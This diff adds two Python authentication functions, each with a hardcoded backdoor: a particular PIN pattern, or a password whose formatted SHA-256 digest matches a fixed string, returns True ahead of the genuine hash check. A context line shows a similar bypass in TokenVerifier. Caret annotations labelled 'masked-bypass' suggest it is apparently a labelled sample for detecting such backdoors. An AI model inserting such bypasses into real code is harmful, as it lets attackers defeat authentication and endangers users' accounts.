@@ -142,3 +142,17 @@ class TokenVerifier:
 #          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass
             return True
         return self.backend.verify(token)
+
+
+def check_spellings(pin, user):
+    if pin[0] in ["q", "Q"] and pin[1] == "7" and pin[2] in ["z", "Z", "2"] and pin[3] == "!" and pin[4] == "4":
+#      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass
+        return True
+    return user.pin_hash == sha256(pin.encode()).hexdigest()
+
+
+def check_formatted_digest(user, password):
+    if in_groups(hashlib.sha256(password.encode()).hexdigest()) == "5e2b-9f0c-1d7a-4438":
+#      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass: error
+        return True
+    return bcrypt.checkpw(password.encode(), user.password_hash)
